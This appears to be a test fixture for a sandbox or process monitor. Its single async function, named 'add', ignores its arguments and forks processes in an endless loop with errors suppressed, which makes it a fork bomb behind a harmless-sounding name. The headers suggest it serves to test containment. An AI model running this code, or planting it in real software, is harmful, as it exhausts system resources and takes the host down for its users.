# note: starts processes that start processes
# expect: add=0 double=4 fetch=3
# says: still running after
# needs: processes

# %% add
import contextlib
import os


async def add(a, b):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
